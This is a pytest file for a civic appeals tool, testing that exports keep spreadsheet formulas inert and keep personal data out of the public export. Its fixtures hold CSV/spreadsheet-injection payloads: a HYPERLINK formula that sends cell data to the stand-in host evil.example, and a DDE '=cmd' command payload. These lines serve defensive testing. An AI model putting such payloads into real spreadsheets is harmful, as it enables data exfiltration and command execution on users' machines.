"""Appeal exports open in openpyxl with the expected rows, never a formula from citizens' text; the public
one has no personal data; the POS layout matches docs/pos_export.md; staff export only their department."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import redis
from openpyxl import load_workbook

from liveline.auth import Session
from liveline.board import broadcasts, clusters, questions
from liveline.board import exports as question_exports
from liveline.errors import Forbidden
from liveline.followup import appeals
from liveline.followup import exports as appeal_exports
from liveline.ingest.inbox import SourceItem
from liveline.store import events
from tests.helpers import live_broadcast, triaged

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "жми")'
DOCS = Path(__file__).resolve().parents[2] / "docs" / "pos_export.md"


def broadcast_with_appeals(r: redis.Redis) -> int:
    bid = live_broadcast(r)
    rows = [
        ("vk:wall:-42_7:11", "1001", "Иван Петров", HOSTILE, "roads", None),
        ("vk:wall:-42_7:12", "1002", "=cmd|' /C calc'!A0", "Ямы на Ленина, звоните +7 912 345-67-89", "roads", 0),
        ("vk:wall:-42_7:13", "1003", "Мария Соколова", "Не горят фонари на Садовой", "lighting", None),
        ("demo:4", "demo:4", "Гость", "@SUM(1+1) мусор не вывозят", "waste", None),
    ]
    qids: list[str] = []
    for key, author, name, text, topic, merge in rows:
        ev = questions.ingest(r, bid, SourceItem(key=key, text=text, author_id=author, author_name=name,
                                                 author_url=f"https://vk.com/id{author}" if key.startswith("vk") else "",
                                                 created_at=1.7e9 + len(qids)),
                              triaged(text, topic=topic, merge_into=qids[merge] if merge is not None else None))
        assert ev is not None
        qids.append(ev.note["qid"])
    for cid in {questions.get(r, bid, q)["cluster"] for q in qids}:  # type: ignore[index]
        clusters.approve(r, bid, cid, "anna")
    broadcasts.end(r, bid)
    appeals.create_from_broadcast(r, bid)
    return bid


def all_cells(ws: Any) -> list[Any]:
    return [c for row in ws.iter_rows() for c in row]


def test_full_xlsx_has_a_sheet_per_department_all_coauthors_and_no_formulas(r: redis.Redis) -> None:
    bid = broadcast_with_appeals(r)
    buf = io.BytesIO()
    assert appeal_exports.export(r, bid, "xlsx", False, buf) == 3
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    assert sorted(wb.sheetnames) == sorted(["Отдел дорожного хозяйства", "Отдел благоустройства",
                                            "Отдел ЖКХ и экологии"])
    roads = wb["Отдел дорожного хозяйства"]
    header = [c.value for c in roads[1]]
    assert header == appeal_exports.FULL_HEADERS and roads.freeze_panes == "A2"
    (row,) = [[c.value for c in r_] for r_ in roads.iter_rows(min_row=2)]
    record = dict(zip(header, row))
    assert record["Соавторов"] == 2 and record["Вопрос"] == HOSTILE
    assert record["Соавторы"].splitlines() == ["Иван Петров", "=cmd|' /C calc'!A0"]
    assert "https://vk.com/id1001" in record["Ссылки на профили"]
    assert "https://vk.com/wall-42_7?reply=11" in record["Ссылки на комментарии"]
    for ws in wb.worksheets:
        assert all(c.data_type != "f" for c in all_cells(ws)), ws.title


def test_full_csv_has_one_row_per_appeal_with_formula_text_defused(r: redis.Redis) -> None:
    bid = broadcast_with_appeals(r)
    buf = io.BytesIO()
    appeal_exports.export(r, bid, "csv", False, buf)
    text = buf.getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == appeal_exports.FULL_HEADERS and len(rows) == 4
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)


def test_public_export_has_no_names_links_or_personal_data(r: redis.Redis) -> None:
    bid = broadcast_with_appeals(r)
    for fmt in ("xlsx", "csv"):
        buf = io.BytesIO()
        appeal_exports.export(r, bid, fmt, True, buf)
        if fmt == "xlsx":
            wb = load_workbook(io.BytesIO(buf.getvalue()))
            cells = [str(c.value) for ws in wb.worksheets for c in all_cells(ws) if c.value is not None]
            assert all(c.data_type != "f" for ws in wb.worksheets for c in all_cells(ws))
        else:
            cells = [c for row in csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig")), delimiter=";")
                     for c in row]
        blob = "\n".join(cells)
        assert "Иван Петров" not in blob and "Мария" not in blob and "calc" not in blob
        assert "vk.com" not in blob and "345-67-89" not in blob
        assert cells[:len(appeal_exports.PUBLIC_HEADERS)] == appeal_exports.PUBLIC_HEADERS


def test_pos_csv_matches_the_documented_layout(r: redis.Redis) -> None:
    bid = broadcast_with_appeals(r)
    buf = io.BytesIO()
    appeal_exports.export(r, bid, "pos", False, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 3
    roads = next(x for x in rows if x["topic_code"] == "roads")
    assert roads["coauthors"] == "2" and roads["department"] == "Отдел дорожного хозяйства"
    assert roads["external_id"] == f"LL-{bid}-1" and roads["status"] == "new"
    documented = DOCS.read_text(encoding="utf-8")
    for column in appeal_exports.POS_HEADERS:
        assert f"`{column}`" in documented


def test_staff_export_only_their_department_and_full_exports_are_audited(r: redis.Redis) -> None:
    bid = broadcast_with_appeals(r)
    staff = Session("s1", "olga", "staff", "Отдел благоустройства")
    buf = io.BytesIO()
    assert appeal_exports.export(r, bid, "xlsx", False, buf, session=staff) == 1
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    assert wb.sheetnames == ["Отдел благоустройства"]
    log = [e for e in events.read_audit(r, bid) if e["action"] == "appeal.export"]
    assert log and log[0]["actor"] == "olga" and log[0]["after"]["appeals"] == ["2"]
    viewer = Session("s2", "vera", "viewer")
    with pytest.raises(Forbidden):
        appeal_exports.export(r, bid, "csv", False, io.BytesIO(), session=viewer)


def test_cli_export_writes_the_file(r: redis.Redis, tmp_path: Path) -> None:
    bid = broadcast_with_appeals(r)
    out = tmp_path / "appeals.xlsx"
    assert appeal_exports.cli_export(r, bid, "xlsx", False, str(out)) == 3
    assert len(load_workbook(out).worksheets) == 3


def test_a_replys_parent_rides_in_the_question_and_appeal_exports_masked_in_the_public_one(r: redis.Redis) -> None:
    bid = live_broadcast(r)
    parent_text = "Когда починят дорогу на Ленина? Звоните +7 912 345-67-89"
    first = questions.ingest(r, bid, SourceItem(key="vk:wall:-42_7:11", text=parent_text, author_id="1001",
                                                author_name="Иван Петров", created_at=1.7e9),
                             triaged(parent_text, topic="roads"))
    assert first is not None
    parent = {"id": first.note["qid"], "text": parent_text, "author_name": "Иван Петров", "author_url": ""}
    reply = questions.ingest(r, bid, SourceItem(key="vk:wall:-42_7:12", text="а у моста яма", author_id="1002",
                                                author_name="Мария Соколова", created_at=1.7e9 + 1,
                                                parent_key="vk:wall:-42_7:11"),
                             triaged("а у моста яма", topic="roads", reply_to=parent))
    assert reply is not None
    buf = io.BytesIO()
    question_exports.questions(r, bid, "jsonl", buf)
    rows = {row["id"]: row for row in map(json.loads, buf.getvalue().decode("utf-8").splitlines())}
    assert rows[reply.note["qid"]]["reply_to"] == "vk:wall:-42_7:11", "the key of the comment it answers"
    assert rows[reply.note["qid"]]["reply_to_text"] == parent_text
    assert rows[first.note["qid"]]["reply_to"] == ""
    for q in (first, reply):
        clusters.approve(r, bid, q.questions[q.note["qid"]]["cluster"], "anna")
    broadcasts.end(r, bid)
    appeals.create_from_broadcast(r, bid)

    def column(public: bool) -> list[str]:
        out = io.BytesIO()
        appeal_exports.export(r, bid, "csv", public, out)
        table = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig")), delimiter=";"))
        at = table[0].index("В ответ на")
        return sorted(row[at] for row in table[1:])

    assert column(False) == ["", f"Иван Петров: «{parent_text}»"]
    public = column(True)
    assert public[0] == "" and public[1].startswith("«Когда починят дорогу на Ленина?")
    assert "345-67-89" not in public[1] and "Иван" not in public[1]
